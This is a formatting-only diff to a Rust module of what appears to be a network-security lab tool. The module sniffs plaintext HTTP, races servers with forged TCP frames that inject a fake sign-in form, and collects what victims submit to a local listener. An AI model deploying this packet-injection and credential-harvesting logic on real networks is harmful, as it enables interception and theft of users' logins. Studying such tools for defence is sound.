@@ -62,7 +62,11 @@ pub fn target(frame: &[u8]) -> Option<Target> {
             if path.split('?').next().and_then(|p| p.rsplit('/').next()).is_some_and(|last| last.contains('.')) {
                 return None;
             }
-            let host = req.headers.iter().find(|h| h.name.eq_ignore_ascii_case("host")).and_then(|h| std::str::from_utf8(h.value).ok());
+            let host = req
+                .headers
+                .iter()
+                .find(|h| h.name.eq_ignore_ascii_case("host"))
+                .and_then(|h| std::str::from_utf8(h.value).ok());
             (format!("GET {}", crate::analysis::findings::mask_url(path)), host.map(|h| format!("http://{h}{path}")))
         }
         443 if payload[0] == 23 => ("TLS application data".to_string(), None),
@@ -112,7 +116,11 @@ pub fn forge(t: &Target, ad: &str, collector: SocketAddrV4) -> Vec<Vec<u8>> {
     let mut seq = t.seq;
     let mut frames = Vec::with_capacity(chunks.len());
     for (i, c) in chunks.iter().enumerate() {
-        let b = PacketBuilder::ethernet2(t.gateway_mac, t.client_mac).ipv4(t.server.ip().octets(), t.client.ip().octets(), 64).tcp(t.server.port(), t.client.port(), seq, 65535).ack(t.ack).psh();
+        let b = PacketBuilder::ethernet2(t.gateway_mac, t.client_mac)
+            .ipv4(t.server.ip().octets(), t.client.ip().octets(), 64)
+            .tcp(t.server.port(), t.client.port(), seq, 65535)
+            .ack(t.ack)
+            .psh();
         let b = if i + 1 == chunks.len() { b.fin() } else { b };
         let mut v = Vec::with_capacity(c.len() + 64);
         b.write(&mut v, c).expect("writing to a Vec");
@@ -157,13 +165,22 @@ fn collect(listener: std::net::TcpListener, reveal: bool, stop: &AtomicBool, don
             let mut req = httparse::Request::new(&mut headers);
             match req.parse(&buf) {
                 Ok(httparse::Status::Complete(head)) => {
-                    let len = req.headers.iter().find(|h| h.name.eq_ignore_ascii_case("content-length")).and_then(|h| std::str::from_utf8(h.value).ok()?.trim().parse::<usize>().ok()).unwrap_or(0);
+                    let len = req
+                        .headers
+                        .iter()
+                        .find(|h| h.name.eq_ignore_ascii_case("content-length"))
+                        .and_then(|h| std::str::from_utf8(h.value).ok()?.trim().parse::<usize>().ok())
+                        .unwrap_or(0);
                     if buf.len() >= head + len.min(16 << 10) {
-                        let mut b = http::Request::builder().method(req.method.unwrap_or("GET")).uri(req.path.unwrap_or("/"));
+                        let mut b =
+                            http::Request::builder().method(req.method.unwrap_or("GET")).uri(req.path.unwrap_or("/"));
                         for h in req.headers.iter() {
                             b = b.header(h.name, h.value);
                         }
-                        break b.body(()).ok().map(|r| (r.into_parts().0, buf[head..head + len.min(buf.len() - head)].to_vec()));
+                        break b
+                            .body(())
+                            .ok()
+                            .map(|r| (r.into_parts().0, buf[head..head + len.min(buf.len() - head)].to_vec()));
                     }
                 }
                 Ok(httparse::Status::Partial) => {}
@@ -171,13 +188,27 @@ fn collect(listener: std::net::TcpListener, reveal: bool, stop: &AtomicBool, don
             }
         };
         let Some((parts, body)) = parsed else { continue };
-        let next = form_urlencoded::parse(&body).find(|(k, _)| k == "next").map(|(_, v)| v.into_owned()).filter(|v| v.starts_with("http://") || v.starts_with("https://"));
+        let next = form_urlencoded::parse(&body)
+            .find(|(k, _)| k == "next")
+            .map(|(_, v)| v.into_owned())
+            .filter(|v| v.starts_with("http://") || v.starts_with("https://"));
         let local = sock.local_addr().map(|a| a.to_string()).unwrap_or_default();
-        let mut o = Outcome { kind: super::Kind::Race, client: peer.to_string(), server: local, method: Some(parts.method.to_string()), url: Some(crate::analysis::findings::mask_url(&parts.uri.to_string())), outcome: "collected".into(), ..Outcome::default() };
+        let mut o = Outcome {
+            kind: super::Kind::Race,
+            client: peer.to_string(),
+            server: local,
+            method: Some(parts.method.to_string()),
+            url: Some(crate::analysis::findings::mask_url(&parts.uri.to_string())),
+            outcome: "collected".into(),
+            ..Outcome::default()
+        };
         o.learned = super::http::learned(&parts, &body, &o, reveal);
         o.detail = format!("the forged sign-in form posted here: {} thing(s) learned", o.learned.len());
         let location = next.unwrap_or_else(|| "/".into());
-        let _ = write!(sock, "HTTP/1.1 303 See Other\r\nLocation: {location}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
+        let _ = write!(
+            sock,
+            "HTTP/1.1 303 See Other\r\nLocation: {location}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
+        );
         if let Ok(line) = serde_json::to_string(&o) {
             println!("{line}");
         }
@@ -185,8 +216,18 @@ fn collect(listener: std::net::TcpListener, reveal: bool, stop: &AtomicBool, don
 }
 
 /// Watches `interface` and races every target until `stop` is set.
-pub fn run(interface: &str, victim: Option<Ipv4Addr>, ad: &str, reveal: bool, ready: Option<&std::path::Path>, stop: &AtomicBool) -> anyhow::Result<()> {
-    let iface = datalink::interfaces().into_iter().find(|i| i.name == interface).with_context(|| format!("no interface {interface}"))?;
+pub fn run(
+    interface: &str,
+    victim: Option<Ipv4Addr>,
+    ad: &str,
+    reveal: bool,
+    ready: Option<&std::path::Path>,
+    stop: &AtomicBool,
+) -> anyhow::Result<()> {
+    let iface = datalink::interfaces()
+        .into_iter()
+        .find(|i| i.name == interface)
+        .with_context(|| format!("no interface {interface}"))?;
     // Frames come from the same live source as the sniffer's (libpcap), filtered to what
     // can be raced; pnet sends the forged ones.
     let mut frames = LiveCapture::open(interface, 65535, Some("tcp and (dst port 80 or dst port 443)"))?;
@@ -201,8 +242,11 @@ pub fn run(interface: &str, victim: Option<Ipv4Addr>, ad: &str, reveal: bool, re
     });
     let own = own.with_context(|| format!("{interface} has no IPv4 address for the collector"))?;
     let collector = SocketAddrV4::new(own, 80);
-    let listener = std::net::TcpListener::bind(collector).with_context(|| format!("binding the collector on {collector}"))?;
-    eprintln!("inject: racing on {interface} (a guest who can see but not block); forged sign-in form posts to {collector}");
+    let listener =
+        std::net::TcpListener::bind(collector).with_context(|| format!("binding the collector on {collector}"))?;
+    eprintln!(
+        "inject: racing on {interface} (a guest who can see but not block); forged sign-in form posts to {collector}"
+    );
     crate::lab::proc::signal_ready(ready)?;
     let done = AtomicBool::new(false);
     std::thread::scope(|scope| -> anyhow::Result<()> {
@@ -214,7 +258,14 @@ pub fn run(interface: &str, victim: Option<Ipv4Addr>, ad: &str, reveal: bool, re
 }
 
 /// The racing loop proper.
-fn race(tx: &mut dyn datalink::DataLinkSender, frames: &mut LiveCapture, collector: SocketAddrV4, victim: Option<Ipv4Addr>, ad: &str, stop: &AtomicBool) -> anyhow::Result<()> {
+fn race(
+    tx: &mut dyn datalink::DataLinkSender,
+    frames: &mut LiveCapture,
+    collector: SocketAddrV4,
+    victim: Option<Ipv4Addr>,
+    ad: &str,
+    stop: &AtomicBool,
+) -> anyhow::Result<()> {
     let mut raced: HashSet<(SocketAddrV4, u32)> = HashSet::new();
     while !stop.load(Ordering::SeqCst) {
         let Some(frame) = frames.next(stop)? else { continue };
@@ -256,7 +307,15 @@ mod tests {
     use crate::analysis::synth::{Segment, tcp_frame};
 
     fn request(port: u16, payload: &[u8]) -> Vec<u8> {
-        let s = Segment { from_client: true, seq: 1000, ack: 5000, syn: false, fin: false, rst: false, payload: payload.to_vec() };
+        let s = Segment {
+            from_client: true,
+            seq: 1000,
+            ack: 5000,
+            syn: false,
+            fin: false,
+            rst: false,
+            payload: payload.to_vec(),
+        };
         tcp_frame("192.0.2.10:40000".parse().unwrap(), SocketAddrV4::new(Ipv4Addr::new(198, 51, 100, 10), port), &s)
     }
 
